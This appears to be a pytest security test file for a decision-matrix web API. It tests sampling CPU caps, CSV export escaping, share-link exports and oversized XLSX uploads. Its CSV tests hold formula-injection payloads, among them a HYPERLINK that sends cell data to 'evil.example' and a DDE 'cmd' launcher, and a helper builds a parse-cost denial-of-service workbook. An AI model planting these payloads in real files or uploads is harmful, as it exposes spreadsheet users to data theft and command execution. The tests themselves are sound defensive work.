"""Attacks on the surface that landed with sharing, versions, short names, files and sensitivity."""

SENSITIVITY = "/api/v1/sensitivity"


def _smaa_body(n_criteria, **changes):
    body = {
        "options": ["A", "B"],
        "criteria": [{"name": f"c{j}", "direction": "benefit", "weight": 1} for j in range(n_criteria)],
        "scores": [[1 + (i + j) % 5 for j in range(n_criteria)] for i in range(2)],
        "method": "wsm",
        "analysis": "smaa",
        "seed": 1,
    }
    body.update(changes)
    return body


# Sensitivity: one anonymous call must not take the CPU for long ---------------------------


def test_hit_and_run_sampling_is_capped_by_its_own_work_not_only_by_samples_times_options(anonymous):
    """Tight bounds force hit-and-run, whose chains restart every 500 samples: 100,000 samples of 2 options
    × 50 criteria (10,000,000 numbers, under MAX_SMAA_WORK) took 40 s; with an importance order in two tied
    groups (625 order pairs per step) 2,000 samples took 3 s and 100,000 more than 2 minutes."""
    tight = [[0.0199, 0.0201]] * 50
    for extra in ({}, {"criteria_order": [1] * 25 + [26] * 25}):
        response = anonymous.post(SENSITIVITY, json=_smaa_body(50, samples=2000 if extra else 100_000,
                                                                weight_bounds=tight, **extra))  # fmt: skip

        assert response.status_code == 422, response.text[:200]
        (detail,) = response.json()["detail"]
        assert detail["loc"] == ["body", "samples"] and detail["code"] == "samples_too_many"
        assert "at most" in detail["msg"]


def test_rejection_sampling_is_counted_by_its_acceptance(anonymous):
    """Bounds that accept about 2.5% of uniform draws: 100,000 samples drew 250 million numbers (2.4 s)."""
    response = anonymous.post(SENSITIVITY, json=_smaa_body(50, samples=100_000, weight_bounds=[[0, 0.059]] * 50))

    assert response.status_code == 422, response.text[:200]
    assert response.json()["detail"][0]["code"] == "samples_too_many"


def test_loose_bounds_and_small_problems_are_still_answered(anonymous):
    response = anonymous.post(SENSITIVITY, json=_smaa_body(3, samples=10_000, weight_bounds=[[0.2, 0.5]] * 3))

    assert response.status_code == 200, response.text[:200]
    assert response.json()["samples"] == 10_000


# Files: CSV injection -------------------------------------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A2,"Click for details")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]


def test_csv_export_writes_formula_like_names_as_text_and_imports_them_back_unchanged(client, make_matrix):
    """A public or shared matrix is someone else's text: opened in a spreadsheet, a CSV cell starting with
    = + - @ runs as a formula. The apostrophe makes it text there, and the import takes it off again."""
    options = [{"name": name} for name in [*FORMULA_NAMES, "'=already quoted", "'plain"]]
    criteria = [{"name": "=1+1", "short_name": "@x", "scale_low_label": "-low", "scale_min": -5, "scale_max": 5}]
    matrix = make_matrix(options=options, criteria=criteria)

    csv_text = client.get(f"/api/v1/matrices/{matrix['id']}/export?format=csv").content.decode("utf-8-sig")

    cells = [cell for line in csv_text.splitlines() for cell in line.split(",")]
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "@"))], csv_text
    assert "scale_min,-5" in csv_text  # numbers are numbers, not formulas
    imported = client.post(
        "/api/v1/matrices/import", files={"file": ("back.csv", csv_text.encode("utf-8"), "text/csv")}
    )
    assert imported.status_code == 201, imported.text
    assert [o["name"] for o in imported.json()["options"]] == [o["name"] for o in options]
    (criterion,) = imported.json()["criteria"]
    assert (criterion["name"], criterion["short_name"], criterion["scale_low_label"]) == ("=1+1", "@x", "-low")


# Sharing ---------------------------------------------------------------------------------


def test_the_shared_pages_export_links_work_for_a_visitor_and_say_nothing_of_the_matrix_id(
    client, anonymous, make_matrix
):
    """They pointed at /matrices/{id}/export: a 404 for anyone but the owner, since the matrix is private."""
    matrix = make_matrix(title="Private plans")
    url = client.post(f"/api/v1/matrices/{matrix['id']}/share-link").json()["url"]
    secret = url.rsplit("/", 1)[1]

    page = anonymous.get(f"/shared/{secret}").text

    assert f"/matrices/{matrix['id']}/" not in page
    for file_format in ("json", "csv", "xlsx"):
        link = f"/shared/{secret}/export?format={file_format}"
        assert link in page
        response = anonymous.get(link)
        assert response.status_code == 200, response.text[:200]
        assert response.headers["content-disposition"].startswith('attachment; filename="private-plans.')
        assert response.headers["cache-control"] == "no-store"
    assert anonymous.get(f"/shared/{secret}/export?format=exe").status_code == 422

    client.delete(f"/api/v1/matrices/{matrix['id']}/share-link")
    assert anonymous.get(f"/shared/{secret}/export?format=json").status_code == 404


# Files: a workbook that costs far more to read than it weighs ------------------------------


def _workbook_with_a_wide_sheet(rows: int, columns: int, sheet_path: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A 2-column matrix whose sheet also holds `columns` cells per row past column BG (none of them read)."""
    import io
    import random
    import zipfile

    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    workbook.active.append(["option", "Cost"])
    plain = io.BytesIO()
    workbook.save(plain)
    letters = [get_column_letter(c) for c in range(60, 60 + columns)]
    draw = random.Random(1)
    sheet = ['<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>option</t></is></c>'
             '<c r="B1" t="inlineStr"><is><t>Cost</t></is></c></row>']  # fmt: skip
    for r in range(2, rows + 2):
        values = [draw.randint(0, 9) if draw.random() < 0.05 else 1 for _ in letters]
        cells = "".join(f'<c r="{c}{r}"><v>{v}</v></c>' for c, v in zip(letters, values, strict=True))
        sheet.append(f'<row r="{r}">{cells}</row>')
    sheet.append("</sheetData></worksheet>")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            body = "".join(sheet).encode() if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            if item.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(b"/xl/worksheets/sheet1.xml", f"/{sheet_path}".encode())
            z.writestr(sheet_path if item.filename == "xl/worksheets/sheet1.xml" else item.filename, body)
    return out.getvalue()


def test_a_sheet_too_big_to_walk_is_refused_before_it_is_parsed_and_nothing_is_created(client, session):
    """Cells past column AZ are never read, but openpyxl parses every one: a 5 MiB upload of 50 MiB of
    such cells took 20 s. This sheet is 8 MiB (about 3 s); a matrix's own sheet is far under 1 MiB."""
    from optionsmatrix.services.matrices import count_matrices

    before = count_matrices(session)
    for path in ("xl/worksheets/sheet1.xml", "xl/elsewhere.data.xml"):  # the workbook's relations name the path
        content = _workbook_with_a_wide_sheet(rows=1000, columns=320, sheet_path=path)

        response = client.post("/api/v1/matrices/import", files={"file": ("wide.xlsx", content, "application/zip")})

        assert response.status_code == 422, response.text[:200]
        assert f"{path} unpacks to" in response.json()["detail"][0]["msg"]
    assert count_matrices(session) == before


# Session sensitivity: a participant's SMAA call is bounded by its work too --------------------------


def test_session_smaa_counts_promethee_pairs_and_the_confidence_pass_per_option(app, client, make_matrix):
    """Only samples × options × criteria was capped (4,000,000 numbers held at once). PROMETHEE II ranks
    pairs, and each option ever first ranks every sample again for its confidence factor: 40 options × 10
    criteria with 500 drawn ballots passed and took about 3 s; 2,000 more than 10 s, for any participant
    once results are revealed."""
    from fastapi.testclient import TestClient

    m, n = 40, 10
    matrix = make_matrix(options=[{"name": f"o{i}"} for i in range(m)], criteria=[{"name": f"c{j}"} for j in range(n)])
    seminar = client.post(f"/api/v1/matrices/{matrix['id']}/sessions", json={}).json()
    join = {"join_code": seminar["join_code"], "display_name": "P"}
    joined = TestClient(app).post("/api/v1/sessions/join", json=join)
    person = TestClient(app)
    person.headers["Authorization"] = f"Bearer {joined.json()['participant_token']}"
    ballot = {
        "scores": {
            str(o["id"]): {str(c["id"]): 1 + (i * 7 + j * 3) % 5 for j, c in enumerate(seminar["criteria"])}
            for i, o in enumerate(seminar["options"])
        },
    }
    assert person.put(f"/api/v1/sessions/{seminar['id']}/ballot", json=ballot).status_code == 200
    client.post(f"/api/v1/sessions/{seminar['id']}/reveal")
    url = f"/api/v1/sessions/{seminar['id']}/sensitivity"

    refused = person.post(url, json={"analysis": "smaa", "method": "promethee2", "samples": 500, "seed": 1})

    assert refused.status_code == 422, refused.text[:200]
    assert refused.json()["detail"][0]["loc"] == ["body", "samples"]
    assert "with PROMETHEE II" in refused.json()["detail"][0]["msg"]
    small = person.post(url, json={"analysis": "smaa", "method": "promethee2", "samples": 50, "seed": 1})
    assert small.status_code == 200, small.text[:200]
